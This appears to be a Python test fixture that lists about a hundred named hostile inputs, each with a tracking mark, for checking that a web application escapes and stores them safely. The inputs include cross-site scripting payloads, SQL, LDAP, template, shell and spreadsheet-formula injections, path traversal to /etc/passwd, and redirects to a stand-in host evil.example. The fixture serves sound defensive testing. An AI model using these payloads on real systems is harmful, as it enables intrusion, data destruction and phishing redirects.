"""Hostile texts: what people, files and models may send, each with a name and why it is nasty.

Each holds a mark of its own (`zq07x`), by which it is found again wherever it went: in the database, in a
page's text, in a value of an attribute, or in a place where it must never be.
"""

from dataclasses import dataclass

import werkzeug.urls  # noqa: F401 (registers what becomes of bytes that are no UTF-8)

_TABLE: tuple[tuple[str, str | bytes, str], ...] = (
    # name, text (¤ becomes the mark, which else comes last), why
    ("script", "<script>alert('¤')</script>", "the plainest of all"),
    ("script closed twice", "</script><script>window.__pwned='¤'</script>", "leaves a script it stands in"),
    ("img handler", '"><img src=x onerror=alert(1) ¤>', "leaves an attribute, then fails to load"),
    ("focus handler", "' autofocus onfocus='alert(1)' ¤='", "leaves an attribute in single quotes"),
    ("bare handler", "x onmouseover=alert(1) ¤=", "enough where an attribute has no quotes"),
    ("svg onload", "<svg/onload=alert(1) ¤>", "no space, no closing tag"),
    ("mathml", "<math><mtext><mglyph><style><img src onerror=alert(1)>¤", "otherwise when parsed twice"),
    ("mutation", "<noscript><p title=\"</noscript><img src onerror=alert(1) ¤>\">", "as above"),
    ("textarea closed", "</textarea><iframe srcdoc='<script>alert(1)</script>'>¤", "leaves a text field"),
    ("title closed", "</title><base href=//evil.example/>¤", "leaves the head's title, moves every link"),
    ("option closed", "</option></select><form action=//evil.example/><button>¤", "leaves a select"),
    ("style", "<style>*{display:none}</style>¤", "hides the page"),
    ("meta refresh", "<meta http-equiv=refresh content='0;url=//evil.example/'>¤", "leads away"),
    ("unclosed comment", "<!-- ¤", "swallows the rest of the page"),
    ("unclosed tag", "<b ¤", "swallows up to the next >"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>¤", "for readers of XML"),
    ("entity", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; ¤", "becomes markup if unescaped twice"),
    ("javascript link", "javascript:alert('¤')", "runs when it becomes an address"),
    ("javascript link in disguise", "JaVa\tScRiPt:alert('¤')", "as above; browsers leave out the tab"),
    ("data link", "data:text/html,<script>alert('¤')</script>", "a page within an address"),
    ("protocol-relative link", "//evil.example/¤", "a path that is another host"),
    ("backslash link", "/\\evil.example/¤", "as above, for browsers that mend it"),
    ("template", "{{ 7191*7 }}{{ config }}¤", "computed if it becomes a template"),
    ("template statement", "{% raw %}{% include 'base.html' %}¤", "opens what is never closed"),
    ("other templates", "${7191*7} #{7191*7} <%= 7191*7 %> ¤", "other template languages"),
    ("format", "{0.__class__.__mro__} {name!r:>99} {¤}", "read by str.format"),
    ("percent format", "%(¤)s %s %n %1000000d", "read by the % operator"),
    ("placeholder", "{username} {persona} {feed} ¤", "the prompt's own placeholders"),
    ("lone brace", "} { {{ }} ¤", "neither a placeholder nor none"),
    ("formula", '=HYPERLINK("http://evil.example/¤","x")', "a spreadsheet computes it"),
    ("formula command", "=cmd|' /c calc'!A0 ¤", "a spreadsheet starts a program"),
    ("plus formula", "+1+cmd|'/c calc'!A0 ¤", "as above"),
    ("minus formula", "-2+3 ¤", "as above"),
    ("at formula", "@SUM(1+1) ¤", "as above"),
    ("tab formula", "\t=1+1 ¤", "the tab is left out"),
    ("carriage return formula", "\r=1+1 ¤", "as above"),
    ("wide formula", "＝1+1 ¤", "read as = by spreadsheets set to Japanese"),
    ("quoted formula", "'=1+1 ¤", "looks as if an export had made it harmless"),
    ("cells", 'a","b";"c\td ¤', "leaves its cell"),
    ("sql", "'); DROP TABLE post; -- ¤", "leaves its string"),
    ("sql always true", "' OR '1'='1' /* ¤", "as above"),
    ("like wildcards", "%_\\%¤%", "matches everything in a search"),
    ("ldap", "*)(uid=*))(|(uid=*¤", "leaves a filter"),
    ("shell", "$(touch /tmp/¤); `id` | cat && true", "read by a shell"),
    ("path", "../../../../etc/passwd ¤", "leaves its folder"),
    ("windows path", "..\\..\\CON.txt:¤", "as above"),
    ("header", "x\r\nSet-Cookie: evil=¤\r\n\r\n<script>alert(1)</script>", "adds a header"),
    ("log line", "x\nlevel='error' event='¤'", "a line of its own in a log"),
    ("escape sequence", "\x1b]0;¤\x07\x1b[2J", "speaks to a terminal"),
    ("escape of one character", "\x9b2J ¤", "as above, in one character"),
    ("bell", "a\x07b ¤", "a control character"),
    ("delete", "a\x7fb ¤", "as above"),
    ("nul", "a\x00b ¤", "ends strings; PostgreSQL stores none"),
    ("override", "invoice \u202egpj.¤", "the rest of the line reads backwards"),
    ("override closed", "a\u202eb\u202c ¤", "as above, within"),
    ("embedding", "\u202b(¤) /admin", "what follows goes to the other side"),
    ("isolate", "\u2067¤ 1", "never closed"),
    ("isolate closed too early", "\u2069\u2069 ¤", "closes the isolate it stands in"),
    ("direction marks", "a\u200fb\u200e\u061c ¤", "unseen, but needed by some scripts"),
    ("hebrew", "שלום (עולם) 123 ¤", "from right to left"),
    ("arabic digits", "٣٫١٤ ٢٠٢٦ ¤", "digits that int() takes"),
    ("wide digits", "１２３ ¤", "as above"),
    ("only a digit", "²", "str.isdigit() says yes, int() says no"),
    ("zero width", "a\u200bb\u200cc\u200dd\ufeff ¤", "looks like abcd"),
    ("nothing to see", "\u200b\u2060\ufeff", "a name nobody can see or click"),
    ("blank letters", "\u3164\u2800\u115f", "letters that are drawn as nothing"),
    ("tag characters", "a\U000e0041\U000e0042 ¤", "unseen words"),
    ("look-alikes", "аdmіn ¤", "Cyrillic letters in a Latin word"),
    ("sharp s", "STRASSE straße ı İ ¤", "changes its length between cases"),
    ("ligature", "ﬁ ① Å ¤", "changed by some normalisations"),
    ("decomposed", "cafe\u0301 A\u030a ¤", "the same as composed, to a reader"),
    ("zalgo", "z" + "\u0316\u0301\u0489" * 9 + " ¤", "drawn over the lines around it"),
    ("marks", "a" + "\u0316\u0301" * 5_000 + " ¤", "normalising them takes the square of their number"),
    ("line separator", "a\u2028b\u2029c ¤", "ends a line in JavaScript"),
    ("next line", "a\x85b ¤", "ends a line for some"),
    ("spaces", "\u00a0\u2003\u3000 a \u202f b ¤", "spaces that are none"),
    ("lines", "\n\n\na\n\n\n\nb ¤", "a text field leaves out the first"),
    ("no character", "a\ufffeb\uffffc ¤", "code points that never will be characters"),
    ("private use", "\ue000\U0010fffd ¤", "drawn differently everywhere, or not"),
    ("replacement", "a\ufffdb ¤", "what a wrong encoding leaves behind"),
    ("emoji family", "👩\u200d👩\u200d👧\u200d👦 ¤", "seven code points, one picture"),
    ("flags", "🇩🇪🇮🇹 🏴\U000e0067\U000e0062\U000e0065\U000e007f ¤", "tag characters that are needed"),
    ("skin and gender", "🧑🏽\u200d🚒 ✊🏿 ❤\ufe0f ¤", "selectors and modifiers"),
    ("long word", "W" * 70 + "¤", "no place to break"),
    ("word of a screen", "W" * 250 + "¤", "as above, longer than most fields allow"),
    ("json", '{"a": {"$ne": null}, "¤": [1, 2]}', "an object where a text is meant"),
    ("deep json", "[" * 3_000 + "¤", "exhausts readers that call themselves"),
    ("number", "1e999", "no number in a database"),
    ("not a number", "NaN", "is smaller than nothing and greater than nothing"),
    ("huge number", "9" * 400, "no integer of a database"),
    ("long number", "1" + "0" * 5_000, "int() refuses it by an error of its own"),
    ("negative", "-1", "where a count is meant"),
    ("megabyte", "A" * 1_000_000 + "¤", "a megabyte"),
    ("wide megabyte", "漢" * 330_000 + "¤", "as above, three bytes a character"),
    ("surrogate bytes", b"a\xed\xa0\x80b \xc2\xa4", "half an emoji"),
    ("broken bytes", b"\xff\xfe\xc3( \xc2\xa4", "no UTF-8"),
    ("overlong bytes", b"\xc0\xaf\xe0\x80\xaf \xc2\xa4", "a slash in disguise"),
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One hostile text: as it is sent, its mark ("" for those that have no room for one), why it is nasty."""

    name: str
    sent: bytes
    mark: str
    why: str

    @property
    def text(self) -> str:
        """As it arrives in a form: bytes that are no UTF-8, which no browser sends, come as %ED%A0%80."""
        return self.sent.decode("utf-8", "werkzeug.url_quote")


def _hostile(number: int, name: str, text: str | bytes, why: str) -> Hostile:
    sent = text if isinstance(text, bytes) else text.encode()
    mark = f"zq{number:02}x" if "¤".encode() in sent else ""
    return Hostile(name, sent.replace("¤".encode(), mark.encode()), mark, why)


TEXTS = tuple(_hostile(number, *row) for number, row in enumerate(_TABLE))
BY_NAME = {each.name: each for each in TEXTS}
# 7191 * 7: stands on a page only if one of the texts was computed.
COMPUTED = "50337"
DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
